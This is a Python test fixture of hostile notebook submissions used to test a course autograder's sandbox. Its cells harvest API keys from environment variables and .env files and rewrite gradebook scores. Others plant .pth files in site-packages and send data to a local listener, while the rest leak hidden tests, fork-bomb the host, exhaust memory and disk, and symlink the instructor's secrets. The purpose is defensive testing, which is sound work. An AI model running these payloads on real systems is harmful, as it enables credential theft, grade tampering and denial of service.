"""Hostile submissions for the class graded once per session (tests/graded_class.py).

Each attack is one extra code cell, put right after the first code cell of the solution of
:data:`ASSIGNMENT` (so every test still passes: an attack must not earn more than the
honest full marks, and must not cost the batch anything). The cells try what issue 18's
table lists and what a hostile learner would try next: read the instructor's ``.env`` and
the key lookup, ``UPDATE`` every gradebook they can find, write into ``site-packages`` and
the repository, connect to a listener on 127.0.0.1, read every notebook they can find and
capture the hidden tests as they run, a fork bomb, a memory hog, a 1 GB file. Every cell
catches its own errors and prints what happened (stdout only: stderr in a test cell would
cost points under nbgrader's rule), so tests/test_attacks.py can read the outcome.

:class:`Secrets` is the instructor's side: a fake key in a ``.env`` beside and above the
course root, in ``ANTHROPIC_API_KEY`` and in another variable, and a TCP listener that
counts connections, all present while the class is graded.
"""
from __future__ import annotations

import os
import site
import socket
import threading
from pathlib import Path

ASSIGNMENT = "00_start_here"
FAKE_KEY = "-".join(["sk", "ant", "api03", "FAKE", "ctxlab", "attack", "suite", "0123456789abcdef"])  # built, not a literal: no key-shaped text in the repository
MARK = "ctxlab_attack_mark"   # the name of every file an attack tries to write

_ENV = r'''
import os, pathlib
from ctxlab._paths import REPO_ROOT
from ctxlab.api import client as _client
print("ATTACK env:", dict(os.environ))
print("ATTACK key lookup:", _client._find_key())
try:
    print("ATTACK pid1 environ:", open("/proc/1/environ", "rb").read())
except OSError as exc:
    print("ATTACK pid1 environ:", exc)
for d in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, REPO_ROOT, pathlib.Path.home(), pathlib.Path("{course_parent}")]:
    try:
        print("ATTACK .env", d, (d / ".env").read_text())
    except OSError as exc:
        print("ATTACK .env", d, type(exc).__name__)
try:
    print("ATTACK repo:", sorted(os.listdir(REPO_ROOT)))
except OSError as exc:
    print("ATTACK repo:", exc)
'''

_GRADEBOOK = r'''
import os, sqlite3
found = []
for top in ["/", "{course_root}"]:
    for dirpath, dirnames, filenames in os.walk(top):
        dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "usr")]
        found += [os.path.join(dirpath, f) for f in filenames if f.startswith("gradebook") and f.endswith(".db")]
for path in sorted(set(found)):
    try:
        con = sqlite3.connect(path)
        con.execute("UPDATE grade SET extra_credit = 50, manual_score = 99")
        con.commit()
        print("ATTACK gradebook updated:", path)
    except Exception as exc:
        print("ATTACK gradebook", path, type(exc).__name__, exc)
print("ATTACK gradebooks found:", len(found))
'''

_WRITE = r'''
import os, site, sys, pathlib
from ctxlab._paths import PACKAGE_DIR, DATA_DIR, REPO_ROOT
targets = [*site.getsitepackages(), os.path.dirname(os.__file__), str(PACKAGE_DIR), str(DATA_DIR), str(REPO_ROOT),
           str(pathlib.Path.home()), "/tmp", "{course_root}", "{course_parent}", *map(str, pathlib.Path.cwd().parents)]
for d in targets:
    for name in ("{mark}.pth", "{mark}.txt"):
        try:
            with open(os.path.join(d, name), "w") as fh:
                fh.write("# harmless marker of the attack suite\n")  # a real attack would run code here
            print("ATTACK wrote", os.path.join(d, name))
        except OSError as exc:
            print("ATTACK write", d, exc)
'''

_NET = r'''
import socket
for host, port in [("127.0.0.1", {port}), ("localhost", {port}), ("1.1.1.1", 80)]:
    try:
        socket.create_connection((host, port), timeout=3).sendall(b"stolen")
        print("ATTACK connected", host, port)
    except OSError as exc:
        print("ATTACK connect", host, port, exc)
try:
    print("ATTACK dns", socket.gethostbyname("example.com"))
except OSError as exc:
    print("ATTACK dns", exc)
'''

_HIDDEN = r'''
import os
# 1. every notebook it can find, hidden tests printed
for top in ["/", "{course_root}", "{repo}"]:
    for dirpath, dirnames, filenames in os.walk(top):
        dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "usr", ".venv")]
        for f in filenames:
            if f.endswith(".ipynb"):
                try:
                    text = open(os.path.join(dirpath, f), encoding="utf-8").read()
                except OSError as exc:
                    print("ATTACK read", f, exc)
                    continue
                print("ATTACK read", os.path.join(dirpath, f), text.count("BEGIN HIDDEN TESTS"), "hidden blocks")
                print(text)
# 2. the hidden tests as the kernel runs them: print every later cell's source
def _leak(info):
    print("ATTACK cell:", info.raw_cell)
get_ipython().events.register("pre_run_cell", _leak)
'''

_FORK = r'''
import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(15)
            os._exit(0)
        children += 1
except OSError as exc:
    print("ATTACK fork stopped after", children, "children:", exc)
'''

_MEMORY = r'''
try:
    huge = bytearray(30 * 2**30)
    print("ATTACK allocated 30 GB")
except MemoryError:
    print("ATTACK 30 GB: MemoryError")
# numpy.empty reserves without writing: the limit is on address space, so it stops the hog at the
# same size, while zero-filling 2 GB (bytearray) takes ~10 s of page faults on a 2-core VM, as long
# as the class's cell timeout, and the cell would time out before it reached the limit
import numpy
chunks = []
held_mb = 0
try:
    while True:
        chunks.append(numpy.empty(2**26, dtype=numpy.uint8))
        held_mb += 64
except MemoryError:
    chunks.clear()  # free it before printing: print itself needs memory at the limit
    print("ATTACK hog stopped at", held_mb, "MB: MemoryError")
del chunks
'''

_BIGFILE = r'''
import os
for path in ["big.bin", "/tmp/big.bin"]:
    written = 0
    try:
        with open(path, "wb") as fh:
            for _ in range(1024):
                fh.write(b"\0" * 2**20)
                written += 1
        print("ATTACK wrote 1 GB to", path)
    except OSError as exc:
        print("ATTACK file", path, "stopped at", written, "MB:", exc)
    finally:
        if os.path.exists(path):
            os.remove(path)
'''

#: the grader's session keyring, from inside a kernel (x86_64 system call numbers): look up, read and
#: add keys in the session (-3) and user (-4) keyrings. Run by tests/test_attacks.py in a sandboxed kernel.
KEYRING = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(nr, *args):
    r = libc.syscall(nr, *args)
    return r, os.strerror(ctypes.get_errno()) if r < 0 else "ok"
for ring in (-3, -4):
    r, err = call(250, 10, ctypes.c_long(ring), b"user", b"{secret_name}", 0)   # KEYCTL_SEARCH
    print("ATTACK search", ring, r, err)
    if r > 0:
        buf = ctypes.create_string_buffer(256)
        n, err = call(250, 11, ctypes.c_long(r), buf, 256)                    # KEYCTL_READ
        print("ATTACK read", ring, buf.value[:max(n, 0)], err)
    print("ATTACK add", ring, *call(248, b"user", b"{mark}", b"x", 1, ctypes.c_long(ring)))
print("ATTACK request_key", *call(249, b"user", b"{secret_name}", None, 0))
print("ATTACK join", *call(250, 1, None))                                        # KEYCTL_JOIN_SESSION_KEYRING
print("ATTACK unshare", *call(272, 0x10000000))                                 # unshare(CLONE_NEWUSER)
'''

#: limits that did not limit (issue 31 item 4), each run by tests/test_attacks.py in a sandboxed kernel:
#: 3 GB of shared anonymous memory written in full (RLIMIT_DATA does not count shared mappings)
MMAP = r'''
import mmap
try:
    m = mmap.mmap(-1, 3 * 2**30)
    for i in range(0, len(m), 2**20):
        m[i:i + 2**20] = b"x" * 2**20
    print("ATTACK mmap wrote 3 GB")
except (OSError, MemoryError) as exc:
    print("ATTACK mmap stopped:", type(exc).__name__, exc)
'''
#: 250 MB into the kernel's socket folder, which is on the host's disk (the argument after -f)
RUNDIR = r'''
import os, sys
folder = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
written = 0
try:
    for n in range(5):
        with open(os.path.join(folder, f"fill{n}.bin"), "wb") as fh:
            for _ in range(50):
                fh.write(b"\0" * 2**20)
                written += 1
    print("ATTACK rundir wrote", written, "MB into", folder)
except OSError as exc:
    print("ATTACK rundir stopped at", written, "MB:", exc)
'''
#: 30 busy processes, each in a session of its own (the scheduler shares CPU between sessions)
SESSIONS = r'''
import os, time
pids, refused = [], 0
for _ in range(30):
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
        except OSError:
            pass
        end = time.time() + {seconds}
        while time.time() < end:
            pass
        os._exit(0)
    pids.append(pid)
try:
    os.setsid()
    print("ATTACK setsid ok")
except OSError as exc:
    print("ATTACK setsid", exc)
for pid in pids:
    os.waitpid(pid, 0)
'''

#: 100 MB printed in 1 MB pieces: every piece reached the grader's nbgrader process (it grew by the whole output)
FLOOD = r'''
import sys
for _ in range(100):
    sys.stdout.write("x" * 2**20)
    sys.stdout.flush()
print("ATTACK flood done")
'''

#: fill /dev/shm and /dev in 16 MB files (below the file-size limit: the tmpfs's own size must stop it);
#: without the fix a non-root kernel wrote 3 GB into each (bwrap's /dev, a tmpfs of half the host's memory)
SHM = r'''
import os
for folder in ("/dev/shm", "/dev"):
    mb = 0
    try:
        for i in range(192):
            with open(f"{folder}/{mark}{i}", "wb") as fh:
                for _ in range(16):
                    fh.write(b"\0" * 2**20)
                    fh.flush()
                    mb += 1
        print(f"ATTACK {folder} took {mb} MB")
    except OSError as exc:
        print(f"ATTACK {folder} stopped at {mb} MB: {exc}")
for name in os.listdir("/dev/shm"):
    os.remove(f"/dev/shm/{name}")
import multiprocessing
with multiprocessing.Lock():   # an honest use of /dev/shm (a POSIX semaphore) still works
    print("HONEST semaphore ok")
'''

#: socket families a kernel has no use for (vsock reaches a virtual machine's host past the network
#: namespace), and the ones it needs (its own ZeroMQ sockets, loopback, getaddrinfo's netlink)
SOCKETS = r'''
import socket
for name in ("AF_VSOCK", "AF_PACKET", "AF_ALG", "AF_KEY", "AF_TIPC", "AF_CAN", "AF_BLUETOOTH", "AF_RDS"):
    family = getattr(socket, name, {"AF_BLUETOOTH": 31}.get(name))
    try:
        socket.socket(family, socket.SOCK_DGRAM if name != "AF_VSOCK" else socket.SOCK_STREAM).close()
        print(f"ATTACK {name} created")
    except OSError as exc:
        print(f"ATTACK {name} {exc}")
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.syscall(41, ctypes.c_long((1 << 32) | 40), 1, 0)   # socket(AF_VSOCK) with high bits set in the family
print(f"ATTACK AF_VSOCK+high bits {'created' if fd >= 0 else 'errno ' + str(ctypes.get_errno())}")
for name in ("AF_UNIX", "AF_INET", "AF_INET6", "AF_NETLINK"):
    socket.socket(getattr(socket, name), socket.SOCK_DGRAM).close()
    print(f"HONEST {name} ok")
a, b = socket.socketpair()
print("HONEST socketpair ok")
'''

#: the attacks whose submission the grader holds for review. None since issue 42: the tests run in a
#: grader kernel out of the learner's reach (ctxlab/grading/graded.py), so an attack that reads or
#: hooks the learner's own kernel finds no test there and is graded as the solution it carries
HELD: frozenset[str] = frozenset()

#: learner id -> the attack cell's source template
ATTACKS = {"atk_env": _ENV, "atk_gradebook": _GRADEBOOK, "atk_write": _WRITE, "atk_net": _NET,
           "atk_hidden": _HIDDEN, "atk_fork": _FORK, "atk_memory": _MEMORY, "atk_bigfile": _BIGFILE}


class Secrets:
    """The instructor's machine while the class is graded: a fake key in ``.env`` files and in
    the environment, a listener on 127.0.0.1 that records every connection."""

    def __init__(self, course_root: Path):
        self.course_root = Path(course_root)
        self.env_files = [self.course_root / ".env", self.course_root.parent / ".env"]
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(8)
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections: list[bytes] = []
        self._stop = threading.Event()
        self._saved: dict[str, str | None] = {}

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.connections.append(conn.recv(100) or b"(connected)")
                except OSError:
                    self.connections.append(b"(connected)")

    def __enter__(self) -> Secrets:
        for f in self.env_files:
            f.parent.mkdir(parents=True, exist_ok=True)
            f.write_text(f"ANTHROPIC_API_KEY={FAKE_KEY}\n", encoding="utf-8")
        for k in ("ANTHROPIC_API_KEY", "CTXLAB_INSTRUCTOR_TOKEN"):
            self._saved[k] = os.environ.get(k)
            os.environ[k] = FAKE_KEY
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join()
        self.server.close()
        for k, v in self._saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v

    def cells(self, repo: Path) -> dict[str, str]:
        """learner id -> the attack cell, filled in with this machine's paths and port."""
        values = {"course_root": str(self.course_root), "course_parent": str(self.course_root.parent),
                  "repo": str(repo), "port": str(self.port), "mark": MARK}
        out = {}
        for learner, template in ATTACKS.items():
            code = template
            for k, v in values.items():
                code = code.replace("{" + k + "}", v)
            out[learner] = code
        return out


def write_targets(repo: Path, course_root: Path) -> list[Path]:
    """Host folders the write attack aims at (none may hold a marked file afterwards)."""
    from ctxlab._paths import DATA_DIR, PACKAGE_DIR

    return [Path(p) for p in site.getsitepackages()] + [Path(os.__file__).parent, PACKAGE_DIR, DATA_DIR, repo,
                                                         Path.home(), Path("/tmp"), course_root, course_root.parent]


# --------------------------------------------------------------------------- files that break a batch

def intake_breakers(solution) -> dict[str, tuple[str, bytes, str, str]]:
    """learner -> (zip entry name, bytes, issue kind, what the issue must say): files that once
    stopped a whole ``ctxlab grade`` run or a worker's ``nbgrader autograde`` (issue 31). Each
    is a submission of :data:`ASSIGNMENT` in a learner folder; they go into the class's upload
    beside the honest learners."""
    import copy

    import nbformat

    def notebook(change) -> bytes:
        nb = copy.deepcopy(solution)
        change(nb)
        return nbformat.writes(nb).encode("utf-8")

    def duplicated_grade_cell(nb):
        test = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code")
        twin = copy.deepcopy(test)
        twin["id"] = "duplicated-test"
        nb.cells.append(twin)

    a = ASSIGNMENT
    return {
        "brk_meta": (f"brk_meta/{a}.ipynb", nbformat.writes(stopper(solution)).encode("utf-8"), "broken_notebook", "schema_version"),
        "brk_dupid": (f"brk_dupid/{a}.ipynb", notebook(duplicated_grade_cell), "broken_notebook", "grade id が同じ"),
        "brk_deep": (f"brk_deep/{a}.ipynb", b"[" * 100_000, "broken_notebook", "入れ子"),
        "brk_huge": (f"brk_huge/{a}.ipynb", b'{"cells": [], "pad": "' + b" " * (51 * 2**20) + b'"}',
                     "skipped_file", "大きすぎます"),
        "brk_longname": (f"brk_longname/{a}_{'x' * 300}.ipynb", notebook(lambda nb: None), "skipped_file",
                         "名前が長すぎ"),
    }


def link_export(export: Path, repo: Path, env_file: Path, solution_nb) -> dict[str, list[str]]:
    """A folder export (as an LMS folder download or a learner's own exchange folder) whose
    submissions hold symbolic links: a notebook that links to the instructor's solution or to
    another learner's notebook, a folder that links to ``solutions/``, ``timestamp.txt`` and
    ``submission_secret.txt`` that link to the instructor's ``.env``. ``eve_secret`` has an
    honest notebook besides its links; ``zed`` is honest. Returns learner -> the links made."""
    import nbformat

    a = ASSIGNMENT
    for learner in ("zed", "eve_secret"):
        folder = export / learner / a
        folder.mkdir(parents=True)
        nbformat.write(solution_nb, folder / f"{a}.ipynb")
    (export / "zed" / a / "timestamp.txt").write_text("2026-11-30 10:00:00.000000 UTC", encoding="utf-8")
    made = {"eve_secret": [f"eve_secret/{a}/timestamp.txt", f"eve_secret/{a}/submission_secret.txt"],
            "eve_sol": [f"eve_sol/{a}.ipynb"], "eve_peer": [f"eve_peer/{a}.ipynb"], "eve_dir": [f"eve_dir/{a}"]}
    for rel in made["eve_secret"]:
        (export / rel).symlink_to(env_file)
    (export / "eve_sol").mkdir()
    (export / made["eve_sol"][0]).symlink_to(repo / "solutions" / a / f"{a}.ipynb")
    (export / "eve_peer").mkdir()
    (export / made["eve_peer"][0]).symlink_to(export / "zed" / a / f"{a}.ipynb")
    (export / "eve_dir").mkdir()
    (export / made["eve_dir"][0]).symlink_to(repo / "solutions" / a, target_is_directory=True)
    return made


def stopper(solution):
    """A notebook that stops nbgrader's whole autograde run (a cell with ``"nbgrader": {}``):
    intake refuses it, so a test places it past intake, as a fault intake did not foresee."""
    import copy

    import nbformat

    nb = copy.deepcopy(solution)
    nb.cells.insert(1, nbformat.v4.new_code_cell("x = 1", metadata={"nbgrader": {}}))
    return nb
